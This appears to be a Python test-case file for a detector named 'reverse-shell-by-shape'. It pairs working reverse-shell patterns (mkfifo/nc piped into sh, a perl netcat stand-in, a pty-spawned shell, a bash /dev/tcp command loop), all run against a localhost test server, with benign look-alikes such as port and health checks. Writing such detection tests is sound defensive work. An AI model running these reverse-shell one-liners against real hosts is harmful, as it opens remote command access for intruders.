"""Reverse shells without a socket for their input, and what has the same parts for honest reasons."""

from detections.case import Case
from detections.stand_ins import CONNECTED, copy_of

_FIRES = ("reverse-shell-by-shape",)

# perl by the name of netcat: joins its input and output to a connection, as nc does
_NETCAT = (
    "use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1:' . $ARGV[0]) or die;"
    "if (fork) { while (sysread($s, $b, 4096)) { syswrite(STDOUT, $b) } }"
    "else { while (sysread(STDIN, $b, 4096)) { syswrite($s, $b) } }"
)
_FIFO = f"""
import os, socket, subprocess, sys
os.chdir(sys.argv[1])
server = socket.create_server(("127.0.0.1", 0))
line = f\"\"\"mkfifo f; ./nc -e "$0" {{server.getsockname()[1]}} <f | sh >f\"\"\"
subprocess.Popen(["sh", "-c", line, {_NETCAT!r}])
theirs, _ = server.accept()
theirs.sendall(b"echo got-$((40 + 2)); exit\\n")
assert theirs.recv(100) == b"got-42\\n"
theirs.close()
"""

_TERMINAL = (
    CONNECTED
    + """
import pty
child, terminal = pty.fork()
if child == 0:
    os.execv("/bin/sh", ["sh"])
os.write(terminal, b"echo got-$((40 + 2)); exit\\n")
said = b""
while b"got-42" not in said:
    said += os.read(terminal, 1000)
"""
)

_BASH_ALONE = """
import socket, subprocess
server = socket.create_server(("127.0.0.1", 0))
line = 'exec 5<>/dev/tcp/127.0.0.1/$0; while read line <&5; do $line >&5 2>&5; done'
shell = subprocess.Popen(["bash", "-c", line, str(server.getsockname()[1])])
theirs, _ = server.accept()
theirs.sendall(b"uname -s\\n")
assert theirs.recv(100) == b"Linux\\n"
theirs.close()
shell.wait()
"""

_PORT_CHECK = """
import socket, subprocess
server = socket.create_server(("127.0.0.1", 0))
port = str(server.getsockname()[1])
line = ": </dev/tcp/127.0.0.1/$0 && uname -s; nc -z 127.0.0.1 $0; true"
subprocess.run(["bash", "-c", line, port], check=True)
"""

_HEALTH_CHECK = """
import socket, subprocess
server = socket.create_server(("127.0.0.1", 0))
line = "exec 3<>/dev/tcp/127.0.0.1/$0; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; grep -q 200 <&3"
shell = subprocess.Popen(["bash", "-c", line, str(server.getsockname()[1])])
theirs, _ = server.accept()
theirs.recv(100)
theirs.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n")
theirs.close()
raise SystemExit(shell.wait())
"""

_CONNECTED_RUNS = (
    CONNECTED
    + """
subprocess.run(["sh", "-c", "uname -s"], check=True)
subprocess.run(["sh"], input=b"uname -s\\n", check=True)
"""
)

ATTACKS = (
    Case(
        name="mkfifo f; nc <f | sh >f (perl is by the name of nc)",
        run=_FIFO,
        prepare=copy_of("perl", "nc"),
        needs=("perl", "mkfifo"),
        fires=_FIRES,
        status=None,
    ),
    Case(name="connects, then a shell on a terminal of its own", run=_TERMINAL, fires=_FIRES),
    Case(name="bash reads commands from /dev/tcp", run=_BASH_ALONE, fires=_FIRES),
)

LOOK_ALIKES = (
    Case(name="bash waits for a port by /dev/tcp", run=_PORT_CHECK, silent=_FIRES),
    Case(name="bash asks for a page by /dev/tcp", run=_HEALTH_CHECK, silent=_FIRES),
    Case(name="a connected program runs commands in shells", run=_CONNECTED_RUNS, silent=_FIRES),
    Case(
        name="a port is knocked at with nc -z beside a shell with a script",
        run=("sh", "-c", "{place}/nc -z 127.0.0.1 1 | sh -c 'cat'"),
        prepare=copy_of("true", "nc"),
        silent=_FIRES,
    ),
)
